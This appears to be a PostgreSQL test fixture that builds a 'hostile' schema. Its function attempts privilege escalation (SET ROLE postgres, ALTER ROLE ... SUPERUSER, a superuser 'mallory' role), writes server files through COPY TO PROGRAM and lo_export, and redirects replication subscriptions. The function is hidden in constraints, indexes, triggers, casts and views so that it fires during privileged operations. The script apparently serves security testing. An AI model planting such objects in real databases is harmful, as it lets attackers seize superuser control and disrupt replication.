CREATE SCHEMA hostile;
-- What it tries. Each try is alone, so that one that fails keeps no other from being made.
CREATE FUNCTION hostile.try() RETURNS void LANGUAGE plpgsql VOLATILE AS $$
DECLARE s text;
BEGIN
  FOREACH s IN ARRAY ARRAY['RESET ROLE', 'RESET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', 'SET ROLE postgres', 'SET ROLE freehold_admin',
      'ALTER ROLE {db}_rw SUPERUSER', 'ALTER ROLE {db}_rw CREATEROLE', 'CREATE ROLE mallory_{db} SUPERUSER', 'GRANT pg_execute_server_program TO {db}_owner', 'GRANT pg_read_all_data TO {db}_owner',
      'COPY (SELECT 1) TO PROGRAM ''touch {mark}''', 'COPY (SELECT 1) TO ''{mark}''', 'SELECT pg_catalog.lo_export(1, ''{mark}'')',
      'CREATE SUBSCRIPTION mallory_{db} CONNECTION ''host=nowhere.invalid'' PUBLICATION p WITH (connect = false)'] LOOP
    BEGIN EXECUTE s; EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  FOR s IN SELECT subname FROM pg_catalog.pg_subscription WHERE subname LIKE 'freehold\_%' LOOP
    BEGIN EXECUTE format('ALTER SUBSCRIPTION %I CONNECTION ''host=nowhere.invalid''', s); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('ALTER SUBSCRIPTION %I DISABLE', s); EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
END $$;
-- Postgres takes its word that it changes nothing, and so runs it while it plans.
CREATE FUNCTION hostile.grab(x int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM hostile.try(); RETURN x; END $$;

CREATE DOMAIN hostile.checked AS int CHECK (hostile.grab(VALUE) IS NOT NULL);
CREATE TABLE hostile.t (id int PRIMARY KEY, c int CHECK (hostile.grab(c) IS NOT NULL), d hostile.checked, made int GENERATED ALWAYS AS (hostile.grab(id)) STORED,
  filled int DEFAULT hostile.grab(1), EXCLUDE USING btree (hostile.grab(id) WITH =));
CREATE INDEX ON hostile.t ((id + hostile.grab(1)));
CREATE INDEX ON hostile.t (c) WHERE hostile.grab(1) = 1;
CREATE STATISTICS hostile.s ON (id + hostile.grab(2)), (c + 1) FROM hostile.t;
CREATE POLICY p ON hostile.t USING (hostile.grab(1) = 1);
ALTER TABLE hostile.t ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE MATERIALIZED VIEW hostile.m AS SELECT hostile.grab(id) AS id FROM hostile.t;
CREATE VIEW hostile.v AS SELECT hostile.grab(id) AS id FROM hostile.t;
CREATE FUNCTION hostile.fire() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM hostile.try(); RETURN NEW; END $$;
CREATE TRIGGER fire BEFORE INSERT OR UPDATE ON hostile.t FOR EACH ROW EXECUTE FUNCTION hostile.fire();
-- Where only the schema is made: a partition that is attached, a bound, an aggregate's first value, a foreign key.
CREATE TABLE hostile.parted (id hostile.checked) PARTITION BY RANGE (id);
CREATE TABLE hostile.part (id hostile.checked, CHECK (hostile.grab(1) = 1));
ALTER TABLE hostile.parted ATTACH PARTITION hostile.part FOR VALUES FROM (1) TO (1000);
CREATE FUNCTION hostile.add(hostile.checked, int) RETURNS hostile.checked LANGUAGE sql AS 'SELECT $1 + $2';
CREATE AGGREGATE hostile.total (int) (SFUNC = hostile.add, STYPE = hostile.checked, INITCOND = '1');
CREATE TYPE hostile.word AS ENUM ('one', 'two');
CREATE FUNCTION hostile.number(hostile.word) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM hostile.try(); RETURN CASE WHEN $1::text = 'one' THEN 1 ELSE 2 END; END $$;
CREATE CAST (hostile.word AS int) WITH FUNCTION hostile.number(hostile.word) AS IMPLICIT;
INSERT INTO hostile.t (id, c, d) SELECT i, i, i FROM generate_series(1, 20) i;
INSERT INTO hostile.parted SELECT i FROM generate_series(1, 20) i;
CREATE TABLE hostile.refers (w hostile.word REFERENCES hostile.t (id));
INSERT INTO hostile.refers VALUES ('one'), ('two');
REFRESH MATERIALIZED VIEW hostile.m;
